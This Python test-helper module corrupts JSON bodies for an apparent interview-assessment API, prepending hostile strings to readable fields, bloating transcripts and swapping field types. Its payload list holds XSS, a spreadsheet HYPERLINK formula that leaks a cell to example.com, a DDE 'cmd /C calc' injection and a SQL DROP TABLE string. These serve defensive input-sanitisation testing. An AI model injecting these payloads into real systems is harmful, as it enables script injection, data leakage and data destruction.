"""Bodies made wrong: each function takes a sound JSON object and returns what nobody wants."""

from collections.abc import Callable
from typing import Any
from zlib import crc32

_HOSTILE_TEXTS = (
    '<script>window.sandboxWasHere = true</script><img src=x onerror="alert(1)">',
    "# Heading\n\n**bold** [link](javascript:alert(1)) ![](//example.com/x.png) `code` :smile:",
    "$\\frac{1}{0}$ and \\(\\href{javascript:alert(1)}{x}\\) :red[coloured]",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\u202egnirts desrever\u202c and \u200fright to left\u200e with \u2066isolates\u2069",
    "a NUL \u0000 a bell \u0007 and an escape \u001b[31m",
    "'; DROP TABLE interview; --",
    "<b>Zo\u0308e</b> & 👩🏽‍💻 ﷽",
)
_STRUCTURAL = frozenset(
    {
        "interview_id",
        "candidate_id",
        "session_id",
        "interview_type",
        "assessment_version",
        "event",
        "id",
        "timestamp",
        "duration",
        "start",
        "end",
        "testcase_passrate",
        "completed_status",
        "realtime_status",
        "interview_result",
        "speaker",
    }
)
"""Keys whose texts a program reads and no person does; they stay sound when the rest is hostile."""
_NOT_TEXTS = ("_time", "_url", "_path")
_LONG_BYTES = 110_000


def hostile(body: dict[str, Any]) -> dict[str, Any]:
    """Put something nasty before every text that a person will read; links and times stay.

    Equal texts stay equal, so that what belongs together can still be found together.
    """
    return {key: _poisoned(key, value) for key, value in body.items()}


def _poisoned(key: str, value: Any) -> Any:  # noqa: ANN401  (any JSON value)
    if isinstance(value, dict):
        return {name: _poisoned(name, part) for name, part in value.items()}
    if isinstance(value, list):
        return [_poisoned(key, part) for part in value]
    if not isinstance(value, str) or key in _STRUCTURAL or key.endswith(_NOT_TEXTS):
        return value
    return f"{_HOSTILE_TEXTS[crc32(value.encode()) % len(_HOSTILE_TEXTS)]} {value}"


def long_transcript(body: dict[str, Any]) -> dict[str, Any]:
    """Repeat what was said until it is more than 100 KB."""
    said = body.get("meeting_data", {}).get("raw_transcript")
    if not said:
        return body
    times = _LONG_BYTES // len(said.encode()) + 1
    body["meeting_data"]["raw_transcript"] = "\n\n".join([said] * times)
    if "summary" in body:
        body["summary"]["interview_transcript_line"] *= times
    return body


def wrong_types(body: dict[str, Any]) -> dict[str, Any]:
    """Swap the types of some fields of each kind: numbers, texts, lists and objects."""
    return body | {key: make(body.get(key)) for key, make in _SWAPS.items()}


_SWAPS: dict[str, Callable[[Any], Any]] = {
    "overall_score": lambda value: f"about {value}",
    "duration": lambda value: [value],
    "role_title": lambda _: 404,
    "candidate_profile": lambda _: "nobody",
    "interview_signals": lambda _: ["tab_changes"],
    "scored_skills": lambda _: {"skill_name": "Everything"},
    "metadata": lambda _: None,
    "meeting_data": lambda _: 7.5,
}
